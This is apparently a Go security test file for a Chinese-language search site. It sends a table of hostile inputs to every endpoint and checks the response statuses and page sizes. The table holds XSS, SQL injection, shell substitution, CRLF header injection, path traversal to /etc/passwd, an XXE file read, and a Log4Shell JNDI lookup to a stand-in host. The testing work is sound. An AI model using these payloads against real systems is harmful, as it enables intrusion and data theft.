package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// canary stands in what tries to become markup or a header, so that it can be
// told wherever it comes out.
const canary = "zq9x"

// strangers is what strangers write into any field. It is sent byte for byte,
// percent-encoded.
var strangers = []struct{ name, text string }{
	{"script element", `<script>alert("zq9x")</script>`},
	{"element of its own", `<zq9x zq9x=1 onclick=zq9x()>`},
	{"image with a handler", `"><img src=x onerror=zq9x>`},
	{"handler without an element", `" autofocus onfocus=zq9x x="`},
	{"single quotes", `' onmouseover='zq9x`},
	{"end of the title", `</title></textarea></style><zq9x>`},
	{"svg", `<svg/onload=zq9x>`},
	{"comment", `--><zq9x><!--`},
	{"entities", `&lt;zq9x&gt;&#60;zq9x&#62;&quot; onclick=zq9x`},
	{"javascript address", `javascript:zq9x()`},
	{"data address", `data:text/html,<zq9x>`},
	{"other host", `//zq9x.example/`},
	{"half UTF-7", `+ADw-zq9x+AD4-`},
	{"header", "x\r\nX-Zq9x: 1\r\nSet-Cookie: zq9x=1\r\n\r\n<zq9x>"},
	{"line feed alone", "x\nX-Zq9x: 1"},
	{"unicode line ends", "x\u2028X-Zq9x: 1\u2029\u0085zq9x"},
	{"NUL", "法治\x00<zq9x>"},
	{"control characters", "\x01\x02\x1b[31mzq9x\x7f\b\b\b"},
	{"overlong UTF-8", "\xc0\xbczq9x\xc0\xbe"},
	{"lone surrogate", "\xed\xa0\x80zq9x"},
	{"invalid UTF-8", "\xff\xfe\x80zq9x"},
	{"cut off UTF-8", "法治\xe6\xb3"},
	{"noncharacters", "\uffff\ufdd0\U0010ffffzq9x"},
	{"path up", "../../../../etc/passwd"},
	{"path up, other slashes", `..\..\..\windows\win.ini`},
	{"regular expression", `(a+)+$`},
	{"more regular expressions", `/(.*)*zq9x/ ^(([a-z])+.)+[A-Z]([a-z])+$`},
	{"query string of an engine", `+title:foo^2 /re.*/ * ? "法治"~3 [* TO *] {! zq9x}`},
	{"fields that do not exist", `_id:* _source:zq9x regi\on:x report:../ id:1`},
	{"template", `{{.}}{{printf "%s" .Page}}{{template "foot"}}zq9x`},
	{"expression", `${7*7}#{7*7}<%= 7*7 %>zq9x`},
	{"lookup", `${jndi:ldap://zq9x.example/a}`},
	{"SQL", `'; DROP TABLE passages;-- zq9x`},
	{"SQL that is always true", `1 OR 1=1 UNION SELECT * FROM passages`},
	{"shell", "$(id)`id`;id|id&&id"},
	{"format", `%s%n%d%!x(zq9x)%v%[1]*d`},
	{"percent of percent", `%25252e%2500%0d%0azq9x`},
	{"right to left", "\u202egpj.exe\u202czq9x\u2066\u2069"},
	{"nothing to see", "\u200b\u200d\u2060\ufeff\u00ad\u180e"},
	{"emoji", strings.Repeat("🏳️‍🌈", 1000)},
	{"combining marks", "法" + strings.Repeat("\u0301", 9_999)},
	{"parentheses that open", strings.Repeat("(", 9_999)},
	{"parentheses in pairs", strings.Repeat("(", 4_000) + "法" + strings.Repeat(")", 4_000)},
	{"quotes", strings.Repeat(`"`, 9_999)},
	{"exclusions", strings.Repeat("-法 ", 3_333)},
	{"minus signs", strings.Repeat("-", 9_999) + "法"},
	{"alternatives", strings.Repeat("a OR ", 2_000)},
	{"bars", strings.Repeat("法|", 5_000)},
	{"fields", strings.Repeat("region:四川 ", 625)},
	{"clauses to the end of an address", strings.Repeat("a ", 32_000)},
	{"clauses beyond it", strings.Repeat("a ", 33_000)},
	{"words to the end of an address", strings.Repeat("法 治 ", 3_200)},
	{"one long word", strings.Repeat("法", 7_000)},
	{"one long Latin word", strings.Repeat("a", 60_000)},
	{"1 MB", strings.Repeat("法", 1<<20/9)},
	{"number too large", "1e308"},
	{"number much too large", strings.Repeat("9", 400)},
	{"number below zero", "-1"},
	{"number in hexadecimal", "0x7fffffffffffffff"},
	{"number in other digits", "１２٣"},
	{"not a number", "NaN"},
	{"year of an age", "99999999999999999999..-1"},
	{"formula", `=HYPERLINK("http://zq9x.example","法治")`},
	{"JSON", `{"$gt":"","zq9x":[[[[[[[[`},
	{"XML entity", `<!DOCTYPE zq9x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`},
}

// A door is an address that takes what strangers write.
type door struct {
	path string // %s is where it goes
	want []int  // statuses of answers to what is UTF-8 and not too long
}

var doors = []door{
	{"/api/v1/search?q=%s", []int{200}},
	{"/api/v1/search?q=%s&within=report", []int{400}},
	{"/api/v1/search?region=%s", []int{200}},
	{"/api/v1/search?level=%s", []int{400}},
	{"/api/v1/search?kind=%s", []int{400}},
	{"/api/v1/search?year=%s", []int{400}},
	{"/api/v1/search?sort=%s", []int{400}},
	{"/api/v1/search?cursor=%s", []int{400}},
	{"/api/v1/search?offset=%s", []int{200, 400}},
	{"/api/v1/search?limit=%s", []int{400}},
	{"/api/v1/search?exact=%s", []int{400}},
	{"/api/v1/search?report=%s", []int{404}},
	{"/api/v1/search?q[]=%s", []int{400}},
	{"/api/v1/search?%s=1", []int{400}},
	{"/api/v1/regions?q=%s", []int{200}},
	{"/api/v1/reports/%s", []int{404}},
	{"/api/v1/passages/%s", []int{404}},
	{"/api/v1/passages/%s%%23p1", []int{404}},
	{"/api/v1/export?q=%s", []int{200}},
	{"/api/v1/export?format=%s", []int{400}},
	{"/api/v1/%s", []int{404}},
	{"/search?q=%s", []int{200}},
	{"/search?q=%s&exact=true&region==%s", []int{200}},
	{"/search?q=法治&region=%s", []int{200}},
	{"/q/%s/search", []int{400, 404, 414}},
	{"/q/5rOV5rK7/search?region=%s", []int{200}},
	{"/q/5rOV5rK7/reports/%s", []int{404}},
	{"/q/5rOV5rK7/%s", []int{404}},
	{"/search?level=%s", []int{400}},
	{"/search?year=%s", []int{400}},
	{"/search?sort=%s", []int{400}},
	{"/search?page=%s", []int{400}},
	{"/search?limit=%s", []int{400}},
	{"/search?q=法治&open=%s", []int{200}},
	{"/search?q=法治&context=%s", []int{200}},
	{"/search?q=法治&%s=%s", []int{200}},
	{"/trend?q=%s", []int{200}},
	{"/trend?q=法治&q=%s", []int{200}},
	{"/trend?q=法治&by=%s", []int{400}},
	{"/trend?q=法治&format=%s", []int{400}},
	{"/map?q=法治&measure=%s", []int{400}},
	{"/figures?q=%s", []int{200}},
	{"/figures?indicator=%s&key=%s", []int{200, 400}},
	{"/figures?unit=%s", []int{200, 400}},
	{"/figures?q=法治&min=%s", []int{200, 400}},
	{"/figures?format=csv&q=%s", []int{200}},
	{"/figures?format=%s", []int{400}},
	{"/indicator?key=%s", []int{200, 400}},
	{"/indicator?key=a&unit=%s", []int{200, 400}},
	{"/api/v1/figures?key=%s", []int{200}},
	{"/map?q=法治&region=%s", []int{200}},
	{"/panel?q=法治&rows=%s", []int{400}},
	{"/panel?format=csv&q=%s", []int{200}},
	{"/targets?region=安居区&indicator=%s", []int{200}},
	{"/targets?region=安居区&verdict=%s", []int{400}},
	{"/corpus?order=%s", []int{200}},
	{"/corpus?region=%s", []int{400, 200}},
	{"/corpus?kind=%s", []int{400}},
	{"/context?id=%s", []int{404}},
	{"/context?id={report}%%23p1&q=%s", []int{200}},
	{"/reports/%s", []int{404}},
	{"/reports/{report}?q=%s", []int{200}},
	{"/reports/{report}?q=法治&part=%s", []int{400}},
	{"/reports/{report}?view=%s", []int{200}},
	{"/export?format=csv&q=%s", []int{200}},
	{"/export?format=%s", []int{400}},
	{"/api/v1/cite?id=%s", []int{404}},
	{"/api/v1/cite?id={report}&style=%s", []int{400}},
	{"/api/v1/cite?id={report}%%23p1&style=csl&q=%s", []int{200}},
	{"/cite?id=%s", []int{404}},
	{"/cite?id={report}&style=%s", []int{400}},
	{"/cite?id={report}%%23p1&style=bibtex&q=%s", []int{200}},
	{"/q/%s/cite", []int{400, 404, 414}},
	{"/static/%s", []int{404}},
	{"/static/%s/../style.css", []int{404}},
	{"/%s", []int{404}},
	{"/%%2e%%2e/%s", []int{404}},
}

// TestHostileText sends what strangers write through every door; what is long
// goes through every third, unless -all is given, and not always the same.
func TestHostileText(t *testing.T) {
	if testing.Short() {
		t.Skip("strangers write nothing under -short")
	}
	s := startHostile(t)
	for n, d := range doors {
		t.Run(d.path, func(t *testing.T) {
			for i, stranger := range strangers {
				if len(stranger.text) > 1000 && (n+i)%3 > 0 && !*all {
					continue
				}
				target := s.target(d, stranger.text)
				a := s.send(t, d.path+" "+stranger.name, "GET "+target+" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
				if a.status == http.StatusSeeOther {
					a = s.follow(t, a)
				}
				s.examine(t, a, wanted(d, target, stranger.text))
			}
			s.isWell(t)
		})
	}
	s.examineLog(t)
	t.Logf("slowest: %v for %s", s.slowest.took, s.slowest.name)
	t.Logf("longest: %d bytes for %s", len(s.longest.body), s.longest.name)
}

// target is the address of a door with a text in it.
func (s *hostile) target(d door, text string) string {
	encoded := strings.ReplaceAll(url.QueryEscape(text), "+", "%20")
	return strings.NewReplacer("%%", "%", "%s", encoded, "{report}", url.PathEscape(s.report), "法治", url.PathEscape("法治")).Replace(d.path)
}

// The longest address that is answered, the longest query of a page, and the
// longest value of a filter on regions there, in bytes.
const (
	maxAddress = 128 << 10
	maxQuery   = 16 << 10
	maxRegion  = 1000
)

// wanted are the statuses that an answer may have.
func wanted(d door, target, text string) []int {
	path, _, asks := strings.Cut(d.path, "?")
	_, query, _ := strings.Cut(target, "?")
	ofPage := !strings.HasPrefix(path, "/api/") && path != "/export"
	switch {
	case len(target) > maxHeader:
		return []int{http.StatusRequestHeaderFieldsTooLarge, http.StatusRequestURITooLong} // net/http is lenient by some kilobytes
	case len(target) > maxAddress, ofPage && len(query) > maxQuery:
		return []int{http.StatusRequestURITooLong}
	case asks && !utf8.ValidString(text) && path != "/context":
		return []int{http.StatusBadRequest}
	case !utf8.ValidString(text):
		return []int{http.StatusBadRequest, http.StatusNotFound}
	case ofPage && strings.Contains(query, "region=") && len(target)-len(d.path) > maxRegion:
		return []int{http.StatusBadRequest}
	}
	return d.want
}

// names are some that several regions bear.
var names = strings.Fields("鼓楼区 朝阳区 城关区 新城区 桥西区 长安区 西湖区 宝山区 江北区 南山区 白云区 铁东区 铁西区 和平区 河东区 永定区 市中区 新华区 桥东区 城区 郊区")

// TestHostileSelection puts as many values into the address of a page as it
// holds. Every link of a page may repeat them, and a page must not be hundreds of
// times as long as its address: it is in memory as long as its reader likes.
func TestHostileSelection(t *testing.T) {
	s := startHostile(t)
	const most = 384 << 10 // bytes
	for _, selection := range []struct{ name, target string }{
		{"years", "/search?q=&" + many(90, "year=19%d0..2050&year=191%d", "&")},
		{"spans of years", "/search?q=&" + spans(1_000)},
		{"spans of years of a corpus", "/corpus?" + spans(1_000)},
		{"questions of a trend", "/trend?q=" + many(8, "q=法治%d"+strings.Repeat("法", 11), "&")},
		{"filters of a trend", "/trend?by=district&q=法治&q=复议&q=信访&" + many(48, "region=51%d0", "&")},
		{"filters of a map", "/map?split=true&q=法治&q=复议&" + many(24, "region=火星%d", "&")},
		{"filters of a panel", "/panel?rows=district&" + many(8, "q=治%d", "&") + "&" + many(48, "kind=work&region=51%d", "&")},
		{"filters of figures", "/figures?limit=100&q=法治&" + many(24, "kind=work&region=51%d0", "&")},
		{"units of figures", "/figures?limit=100&" + many(48, "unit=件%d", "&")},
		{"filters of an indicator", "/indicator?key=行政复议·受理&" + many(24, "kind=work&region=51%d", "&")},
		{"a long question of figures", "/figures?limit=100&q=法治%7C" + strings.Repeat("法", 1_700)},
		{"a long question of an indicator", "/indicator?key=行政复议·受理&q=法治%7C" + strings.Repeat("法", 1_700)},
		{"a long question of a panel", "/panel?rows=city&q=法治%7C" + strings.Repeat("法", 1_700)},
		{"regions", "/search?q=&" + many(1_050, "region=zq9x%d", "&")},
		{"regions of one name", "/search?q=&" + many(210, "region=鼓楼区&region==鼓楼%d", "&")},
		{"regions of codes", "/search?q=&" + many(90, "region=51%d0&region==51%d1", "&")},
		{"levels", "/search?q=&" + strings.Repeat("level=city&level=市&level=省&", 340)},
		{"unfolded regions", "/search?q=&" + many(1_700, "open=%d", "&")},
		{"alternatives", "/search?q=" + strings.Repeat("法%7C", 1_300)},
		{"exclusions", "/search?q=" + strings.Repeat("-a%20", 3_200)},
		{"words", "/search?q=" + strings.Repeat("法治%20", 770)},
		{"names of regions", "/search?q=" + strings.Repeat("region:鼓楼区%20", 420)},
		{"names of many regions", "/search?q=" + strings.Repeat("法", 1_000) + "%7Cregion:" + strings.Join(names, "%7Cregion:")},
		{"region of a long name", "/search?q=法治%20region:" + strings.Repeat("火", 1_700)},
		{"passage of a long page", "/search?limit=100&context=" + strings.Repeat("a", 16_000)},
		{"unfolded name", "/search?limit=100&open=" + strings.Repeat("a", 16_000)},
		{"long word", "/search?limit=100&q=法治%7C" + strings.Repeat("法", 1_700)},
		{"words of a report", "/reports/" + url.PathEscape(s.report) + "?sort=year&q=法治%7C" + strings.Repeat("法", 1_700)},
		{"passage", "/search?q=法治&context=" + strings.Repeat("a", 16_000)},
		{"regions of a corpus", "/corpus?" + many(1_050, "region=zq9x%d", "&")},
		{"kinds of a corpus", "/corpus?" + strings.Repeat("kind=work&", 1_600)},
		{"report", "/reports/" + url.PathEscape(s.report) + "?q=" + strings.Repeat("法%7C", 1_300)},
	} {
		t.Run(selection.name, func(t *testing.T) {
			target := escapeHan(selection.target)
			a := s.send(t, selection.name, asks(target))
			if a.status == http.StatusSeeOther {
				a = s.follow(t, a)
			}
			s.examine(t, a, []int{http.StatusOK, http.StatusBadRequest})
			if len(a.body) > most {
				t.Errorf("%d bytes of address make a page of %d bytes, in %v", len(target), len(a.body), a.took)
			}
		})
	}
	s.isWell(t)
}

// spans is n different values of the filter on years.
func spans(n int) string {
	all := make([]string, n)
	for i := range all {
		all[i] = fmt.Sprintf("year=%d..%d", 1900+i/50, 2000+i%50)
	}
	return strings.Join(all, "&")
}

// escapeHan percent-encodes what is not ASCII.
func escapeHan(target string) string {
	var b strings.Builder
	for _, r := range target {
		if r < 0x80 {
			b.WriteRune(r)
		} else {
			b.WriteString(url.PathEscape(string(r)))
		}
	}
	return b.String()
}
